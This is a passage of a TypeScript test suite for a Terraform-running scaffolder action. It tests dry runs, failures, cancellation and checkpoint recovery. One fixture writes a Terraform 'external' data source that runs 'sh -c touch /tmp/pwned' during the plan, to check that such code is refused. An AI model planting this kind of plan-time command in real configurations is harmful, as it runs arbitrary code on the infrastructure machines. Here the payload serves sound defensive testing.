  describe('a dry run', () => {
    it('checks the inputs, shows what would run, and starts no process', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ secretVars: { db_password: SECRET } }),
        isDryRun: true,
      });
      expect(run.error).toBeUndefined();
      expect(tf.calls()).toEqual([]);
      expect(run.outputs.result).toBe('dry-run');
      expect(run.outputs.outputs).toEqual({});
      expect(run.outputs.dryRun).toEqual({
        executor: 'cli',
        workingDirectory: 'infra',
        files: [{ path: 'infra/main.tf', bytes: MAIN_TF.length }],
        backend: {
          type: 's3',
          settings: {
            ...S3_BACKEND.settings,
            key: 'component/default/payments-api/dev/infra.tfstate',
          },
          from: 'terraform.environments.dev.backend',
        },
        commands: [
          'terraform version -json',
          'terraform init -input=false -no-color',
          'terraform validate -no-color',
          'terraform plan -input=false -no-color -lock-timeout=0s -out=<step temporary directory>/groundwork.tfplan',
          'terraform show -json -no-color <step temporary directory>/groundwork.tfplan',
          'terraform apply -input=false -no-color -lock-timeout=0s <step temporary directory>/groundwork.tfplan',
          'terraform output -json -no-color',
        ],
        variables: {
          vars: ['service_name', 'replicas'],
          secretVars: ['db_password'],
        },
        allowedPlanTimeCode: [],
      });
      expect(run.log).toContain(
        'Dry run: stopped before terraform init. No Terraform process was started, no file was written',
      );
      expect(run.log).toContain('zz_groundwork_backend_override.tf.json');
      expect(JSON.stringify([run.log, run.outputs])).not.toContain(SECRET);
      // Nothing written next to the code, and not reported: not a run of the entity.
      expect(fs.readdirSync(path.join(ws.workspace, 'infra'))).toEqual([
        'main.tf',
      ]);
      expect(run.reports).toEqual([]);
    });

    it('never runs code, even code config allows, and says what a real run would refuse', async () => {
      fs.writeFileSync(
        path.join(ws.workspace, 'infra', 'sha.tf'),
        'data "external" "sha" {\n  program = ["sh", "-c", "touch /tmp/pwned"]\n}\n',
      );
      const allowing = await runAction({
        config: config({
          environments: {
            dev: { backend: S3_BACKEND, allowPlanTimeCode: ['external'] },
          },
        }),
        workspace: ws.workspace,
        input: input(),
        isDryRun: true,
      });
      expect(allowing.error).toBeUndefined();
      expect((allowing.outputs.dryRun as any).allowedPlanTimeCode).toEqual([
        'infra/sha.tf: data "external" "sha" runs a program on the machine that runs Terraform, during the plan (external)',
      ]);
      const refusing = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        isDryRun: true,
      });
      expect(refusing.error?.name).toBe('NotAllowedError');
      expect(refusing.error?.message).toContain(
        'infra/sha.tf: data "external" "sha"',
      );
      expect(refusing.log).toContain('Dry run: stopped before terraform init');
      expect(tf.calls()).toEqual([]);
    });

    it('refuses what a real run would refuse: another executor, another backend', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({
          backend: { type: 'local', settings: { path: '/etc/x' } },
        }),
        isDryRun: true,
      });
      expect(run.error?.name).toBe('InputError');
      expect(run.error?.message).toContain(
        'terraform.environments.dev.backends',
      );
      expect(tf.calls()).toEqual([]);
    });
  });

  it('reports a planOnly run as planned', async () => {
    const run = await runAction({
      config: config(),
      workspace: ws.workspace,
      input: input({ planOnly: true }),
    });
    expect(run.error).toBeUndefined();
    expect(tf.calls().map(c => c.argv[0])).not.toContain('apply');
    expect(run.reports[0]).toMatchObject({
      result: 'planned',
      summary: { add: 29 },
    });
  });

  it('plans the destruction with -destroy', async () => {
    const run = await runAction({
      config: config(),
      workspace: ws.workspace,
      input: input({ destroy: true }),
    });
    expect(run.error).toBeUndefined();
    expect(tf.calls()[3].argv).toContain('-destroy');
    expect(run.outputs.summary).toMatchObject({ add: 0, destroy: 29 });
  });

  describe('failures', () => {
    it("reports an init failure with Terraform's own error", async () => {
      tf.configure({ initFailure: true });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.message).toMatch(
        /terraform init failed \(exit 1\); nothing was applied/,
      );
      expect(run.error?.message).toMatch(
        /Failed to query available provider packages/,
      );
      expect(run.reports[0]).toMatchObject({
        result: 'failed',
        compliance: { score: 0 },
      });
      expect(run.reports[0].cost).toBeUndefined();
    });

    it('explains a held state lock', async () => {
      tf.configure({ stateLock: true });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.name).toBe('ConflictError');
      expect(run.error?.message).toMatch(/state is locked by another run/);
      expect(run.error?.message).toMatch(/force-unlock/);
      expect(run.error?.message).toMatch(
        /ID: +8f5a2c1e-2b6e-4c1d-9d57-7a1f0c3e9b42/,
      );
      expect(run.reports[0].result).toBe('failed');
    });

    it('says how far an apply got before it failed', async () => {
      tf.configure({ applyError: true });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
      });
      expect(run.error?.message).toMatch(
        /terraform apply failed \(exit 1\) after 15 resource change\(s\) completed/,
      );
      expect(run.error?.message).toMatch(/BucketAlreadyExists/);
      expect(run.reports[0]).toMatchObject({
        result: 'failed',
        summary: { add: 29 },
      });
    });

    it('does not fail a successful apply when platform status cannot be reached', async () => {
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        reportFails: true,
      });
      expect(run.error).toBeUndefined();
      expect(run.outputs.result).toBe('applied');
      expect(run.log).toMatch(
        /Could not report this run to platform status .*the run itself succeeded/,
      );
    });
  });

  describe('cancellation', () => {
    it('interrupts the apply with SIGINT and says changes may have been made', async () => {
      tf.configure({ slowMs: 20 });
      const controller = new AbortController();
      const running = runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        signal: controller.signal,
      });
      await waitFor(
        () =>
          tf.calls().some(c => c.argv[0] === 'apply') &&
          tf.state().serial === 0,
      );
      await sleep(150);
      controller.abort();
      const run = await running;
      expect(run.error?.name).toBe('CancelledError');
      expect(run.error?.message).toMatch(
        /The run was cancelled\. The apply was interrupted after \d+ resource change\(s\) completed: some resources may have been created/,
      );
      const apply = tf.calls().find(c => c.argv[0] === 'apply')!;
      expect(apply.interrupted).toBe(true);
      expect(apply.exitCode).toBe(1);
      expect(tf.lockHeld()).toBe(false);
      expect(run.reports[0]).toMatchObject({
        result: 'cancelled',
        message: expect.stringMatching(/may have been/),
      });
    });

    it('says nothing was applied when cancelled during the plan', async () => {
      tf.configure({ slowMs: 20 });
      const controller = new AbortController();
      const running = runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        signal: controller.signal,
      });
      await waitFor(() => tf.calls().some(c => c.argv[0] === 'plan'));
      await sleep(100);
      controller.abort();
      const run = await running;
      expect(run.error?.message).toMatch(
        /cancelled\. Nothing was applied: it stopped during plan/,
      );
      expect(tf.calls().map(c => c.argv[0])).not.toContain('apply');
      expect(run.reports[0].result).toBe('cancelled');
    });

    it('kills Terraform after the grace period and warns about the lock', async () => {
      tf.configure({ slowMs: 20, ignoreInterrupt: true });
      const controller = new AbortController();
      const running = runAction({
        config: config({ timeouts: { cancelGraceSeconds: 0.3 } }),
        workspace: ws.workspace,
        input: input(),
        signal: controller.signal,
      });
      await waitFor(() => tf.calls().some(c => c.argv[0] === 'apply'));
      await sleep(100);
      controller.abort();
      const run = await running;
      expect(run.error?.message).toMatch(
        /had to be killed: the state lock may still be held/,
      );
      expect(run.log).toMatch(/sent SIGKILL/);
      expect(
        tf.calls().find(c => c.argv[0] === 'apply')!.exitCode,
      ).toBeUndefined();
      expect(tf.lockHeld()).toBe(true);
    });

    it('stops a run that outlives timeoutMinutes and reports it as failed', async () => {
      tf.configure({ slowMs: 30 });
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input({ timeoutMinutes: 0.01 }),
      });
      expect(run.error?.name).toBe('TimeoutError');
      expect(run.error?.message).toMatch(/The run timed out/);
      expect(run.reports[0].result).toBe('failed');
    });
  });

  it.each(
    examples
      .map(e => [e.description, yaml.parse(e.example).steps[0].input] as const)
      .filter(([, i]) => i.executor !== 'hcp'),
  )('runs the example: %s', async (_, exampleInput) => {
    const example = makeWorkspace({
      [`${exampleInput.workingDirectory}/main.tf`]: MAIN_TF,
    });
    try {
      const run = await runAction({
        config: config({
          environments: {
            dev: { backend: S3_BACKEND },
            staging: { backend: S3_BACKEND },
            prod: {
              backend: S3_BACKEND,
              backends: { 'shared-services': S3_BACKEND },
            },
          },
        }),
        workspace: example.workspace,
        input: exampleInput,
      });
      expect(run.error).toBeUndefined();
      expect(run.outputs.result).toBe(
        exampleInput.planOnly ? 'planned' : 'applied',
      );
      expect(run.reports[0]).toMatchObject({
        entityRef: exampleInput.entityRef,
        environment: exampleInput.environment,
      });
    } finally {
      example.remove();
    }
  });

  describe('task recovery', () => {
    it('does not plan or apply again when the apply had completed', async () => {
      const checkpoints = new CheckpointStore();
      const first = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        checkpoints,
      });
      expect(first.error).toBeUndefined();
      const callsBefore = tf.calls().length;

      const recovered = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        checkpoints,
      });
      expect(recovered.error).toBeUndefined();
      expect(tf.calls()).toHaveLength(callsBefore);
      expect(tf.state().serial).toBe(1);
      expect(recovered.outputs.outputs).toEqual(first.outputs.outputs);
      expect(recovered.log).toMatch(
        /already applied its plan at .* it is not applied again/,
      );
      expect(recovered.reports[0]).toMatchObject({
        result: 'applied',
        runId: first.reports[0].runId,
      });
    });

    it('leaves none of the run in the workspace the scaffolder serializes at each checkpoint', async () => {
      const checkpoints = new CheckpointStore(ws.workspace);
      const run = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        checkpoints,
      });
      expect(run.error).toBeUndefined();
      expect([...checkpoints.serialized.keys()]).toEqual([
        expect.stringMatching(/^terraform\.attempt\./),
        expect.stringMatching(/^terraform\.apply\./),
      ]);
      for (const files of checkpoints.serialized.values()) {
        // A recovered task rehydrates this: the override would be refused
        // by the code check, the var file and providers have no place there.
        expect(
          files.filter(f => /zz[_-]groundwork|\.terraform\//.test(f)),
        ).toEqual([]);
      }
    });

    it("plans again, never reusing the interrupted attempt's plan", async () => {
      const checkpoints = new CheckpointStore();
      tf.configure({ applyError: true });
      const first = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        checkpoints,
      });
      expect(first.error).toBeDefined();
      const firstPlan = tf
        .calls()
        .find(c => c.argv[0] === 'plan')!
        .argv.find(a => a.startsWith('-out='))!;

      tf.configure({ applyError: false });
      const recovered = await runAction({
        config: config(),
        workspace: ws.workspace,
        input: input(),
        checkpoints,
      });
      expect(recovered.error).toBeUndefined();
      expect(recovered.log).toMatch(
        /An earlier attempt of this step started at .* did not finish .* Its saved plan is never reused/,
      );
      const plans = tf.calls().filter(c => c.argv[0] === 'plan');
      const applies = tf.calls().filter(c => c.argv[0] === 'apply');
      expect(plans).toHaveLength(2);
      const secondPlan = plans[1].argv.find(a => a.startsWith('-out='))!;
      expect(secondPlan).not.toBe(firstPlan);
      expect(applies[1].argv[applies[1].argv.length - 1]).toBe(
        secondPlan.slice('-out='.length),
      );
      expect(tf.state().serial).toBe(2);
    });
  });
});

async function waitFor(condition: () => boolean, timeoutMs = 20_000) {
  const start = Date.now();
  while (!condition()) {
    if (Date.now() - start > timeoutMs)
      throw new Error('condition not met in time');
    await sleep(20);
  }
}
